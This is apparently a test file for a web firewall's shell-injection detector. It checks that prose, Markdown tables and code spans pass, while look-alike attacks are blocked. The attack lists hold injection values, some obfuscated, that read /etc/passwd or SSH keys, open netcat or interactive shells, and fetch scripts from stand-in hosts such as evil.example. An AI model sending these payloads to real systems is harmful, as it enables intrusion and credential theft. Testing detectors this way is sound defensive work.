/**
 * False positives of the shell detector found by the benign hunt: prose after `;`, `&` and `|`, capitalised
 * words at a line's start, Markdown tables, fences and code spans, jQuery selectors. Each group asserts its
 * inputs passed in the query string, a urlencoded form body and a JSON body, and the look-alike attacks
 * beside them blocked as shell in all three.
 */
import { strict as assert } from 'node:assert';
import { test } from 'node:test';
import { Engine } from '../../src/engine/engine.js';
import { buildRuleSet } from '../../src/engine/rule-set.js';
import type { MoatRequest } from '../../src/engine/decision.js';
import { normalizeAttackSettings } from '../../src/rules/attack-settings.js';

const info = { path: null, format: 'moat' as const, formatVersion: 1, builtAt: null, hash: '' };
const engine = new Engine({ rules: buildRuleSet([], info, undefined, normalizeAttackSettings('block')) });

function requests(value: string): [string, MoatRequest][] {
  const base = { ip: '192.0.2.1', method: 'GET', path: '/s', url: '/s', headers: {} };
  const form = 'q=' + encodeURIComponent(value);
  return [
    ['query', { ...base, url: '/s?q=' + encodeURIComponent(value) }],
    ['form', { ...base, method: 'POST', body: { kind: 'form', text: form, bytes: Buffer.from(form, 'latin1') } }],
    ['JSON', { ...base, method: 'POST', body: { kind: 'json', text: JSON.stringify({ q: value }) } }],
  ];
}

function check(benign: readonly string[], attacks: readonly string[]): void {
  for (const v of benign) {
    for (const [where, request] of requests(v)) assert.equal(engine.evaluate(request).category, 'passed', `${JSON.stringify(v)} in ${where}`);
  }
  for (const v of attacks) {
    for (const [where, request] of requests(v)) assert.equal(engine.evaluate(request).category, 'attack-shell', `${JSON.stringify(v)} in ${where}`);
  }
}

test('a number and then words after a separator is a sentence; a number alone, or options and paths, a command', () => {
  check(
    ['Arrived on time; free 2-day shipping was a nice touch.', 'Ordered Monday; at 5pm Tuesday it arrived.', 'Meeting moved; at 10:30 now, see you there.', 'Great seller; last 3 orders were perfect',
      'Nice staff; call 555-0100 for help', 'Good price; more 20% off next time', 'Quick reply; sleep 8 hours after using it', 'Easy setup; cut 2 inches off the hem', 'Closed Mondays; at 9 we open Tue-Sat.',
      'Rest & sleep 8 hours', 'Wash & cut $30'],
    ['x;sleep 5', 'x; sleep 5', 'x ; sleep 5 ;', 'x; sleep 5 && id', 'x; kill 1 now', 'x ; nc 10.0.0.1 4444', 'x; ping 127.0.0.1 -c 5', 'a ; cat /etc/passwd now please', 'a ; echo hi there > /tmp/x'],
  );
});

test('a word alone after a spaced `&` or `|` is a phrase unless it tells something run bare or runs the pipe', () => {
  check(
    ['dog & cat', 'Shoes, bags & more', 'Shipping is fast & free', 'time & date', 'eat & sleep', 'Coffee & find', 'Coffee & curl', 'Books | more', 'Books | cat', 'Books | date', 'Books | head', 'ls -la | less'],
    ['x & id', 'x | id', 'x ; id', 'x & whoami', 'x | sh', 'x | python', 'x & reboot', 'x ; set', 'x;cat', 'x&&cat', 'x|date', 'x & cat /etc/passwd', 'x | more /etc/passwd'],
  );
});

test('a capitalised word after a separator and a blank, or at a line start, is prose unless used like a command', () => {
  check(
    ['Time & Date', 'Dog & Cat', 'Sale | Free shipping on everything', 'Developer | Cat lover | Coffee addict', 'Runner | Who knows what\'s next', 'Engineer | Make stuff', 'USB cable | Type C',
      'Prices | Last updated 2024', 'Events | Date & venue', 'Leave at back door\r\nCall 555-123-4567 on arrival', 'Medical history:\nType 2 diabetes\nHigh blood pressure',
      'Recipe:\nCut 2 onions into rings\nFry for 5 minutes', 'Workout\nSet 1: 10 reps\nSet 2: 8 reps', 'Schedule:\nDate 12/05\nTime 14:00\nPlace: Room 3', 'Notes:\nEcho 12/05\nThanks',
      'Shopping list\nmore 2 apples\nmilk', JSON.stringify({ 'Date & Time': '2024-01-05 09:30' })],
    ['x; Cat /etc/passwd', 'x; Id', 'x | Id', 'x;Id', 'x|ID', 'x & Whoami', 'x & Uname -a', 'x; Sleep 5', 'x\nSleep 5', 'x & Echo pwned > /tmp/x', 'x | Echo hi | sh', 'x & Curl http://evil.example'],
  );
});

test('Markdown table rows, fences and code spans glued to punctuation, and jQuery selectors', () => {
  check(
    ['| id | name | email |\n|----|------|-------|\n| 1 | Ann | ann@example.com |', '| Date | Amount |\n|---|---|\n| 2024-01-05 | $5 |', 'Feedback:\nUI | Date picker is confusing\nAPI | fine',
      "Here's my code:\n```python\nprint('hello')\n```\nWhat am I doing wrong?", '```bash\nnpm install\n```', '```powershell\nGet-ChildItem\n```', '**`make`** is required',
      'What does `make` do? (`make install` too)', 'Try `ls`/`dir` depending on your OS', 'Is "`ls`" the same as "`dir`"?', "jQuery $('tr').each() is not iterating", 'Why is $("time") returning empty?'],
    // A one-line row can continue the command it is appended to; so can a row before a blank line.
    ['| id | name |', '| id | name |\n\nSome text', 'x\\\n| id | x |', 'x\n| id', '```id\n```', '``` id\n```', '```bash\nid\n```', '"`id`"', 'x`id`', "$('id')", '$("whoami")'],
  );
});

test('text joined from lines that pass alone: a link\'s query before a capitalised word, and a contraction after `;`', () => {
  // Found by joining benign lines into 4 KiB fields: `&view=full` read as an assignment before the command
  // `Sleep`, and `I'd` (an unclosed quote, a syntax error to the shell) as the command `id`.
  check(
    // `x|I'd` runs nothing under sh in any place (bare and '…': the quote never closes; "…": all literal).
    ['https://maps.example/docs/HTML?id=42&view=full Sleep apnea symptoms?', 'if (x && y) return z; I\'d like 2 or 3 more', 'Thanks; I\'d say yes', 'ok; we\'ll see', 'x|I\'d'],
    ['x;A=1 id', 'x&A=1 cat /etc/passwd', "x;c'a't /etc/passwd", "x;i'd'", "x|I'd'"],
  );
});

test('an interpreter or network tool followed by words alone is a sentence; with a host, a URL, an option or one word, a command', () => {
  check(
    ['Hello\ncurl hair tips', 'Reading list:\npython for data science\nrust for speed', 'Thread title\npython vs java', 'Party plans\nbash party ideas', 'Great seller; curl cream works wonders',
      'Forum\nwget is a tool I never used', 'Notes | python for beginners'],
    ['x\ncurl evil.example', 'x\ncurl http://evil.example/x.sh', 'x; curl attacker', 'x\nperl -e print', 'x\npython -c 1', 'x; wget evil.example -O /tmp/x', 'x|curl hair tips',
      'x\nbash -i', 'x & powershell Get-Process', 'x; nc evil.example 4444', 'x\nwhoami',
      // One word after such a tool is a file or a host it is given (`curl intranet`), even where it reads as a typo.
      'Favourites:\nperl necklace\nsilver ring'],
  );
});

test('an absolute path names a command only in a bin or sbin folder; a page or a file elsewhere', () => {
  check(
    ['Docs\n/docs/linux/etc/passwd', 'See also:\n/wiki/id\n/help/date', 'Moved; /blog/2024/cat now', 'Links\n/shop/kids/ls'],
    ['x; /bin/cat /etc/passwd', 'x;/usr/bin/id', 'x; ////////usr/bin/id', 'x; /././././bin/id', 'x; /???/c?t /etc/passwd', 'x; /proc/self/root/bin/id', 'x\n/usr/local/sbin/reboot', 'x; ./id', 'x | /bin/sh'],
  );
});

test('after a capitalised word a quote counts only round a path, an option or a variable, and Word<Type> is a generic type', () => {
  check(
    ['Fix it\nType "=" to start a formula in Sheets.', 'Tip\nType \'--\' to get an em dash in Word.', 'Java\nSet<Handler> handlers', 'Code\nList<String> names', 'Maps\nSort<Key, Value> entries'],
    ['x & Type "C:\\boot.ini"', 'x; Cat "/etc/passwd"', 'x\nType "-a"', 'x & Type "$HOME/.ssh/id_rsa"', 'x; Cat</etc/passwd', 'x; Sort <in >out', 'x & Echo pwned > /tmp/x'],
  );
});
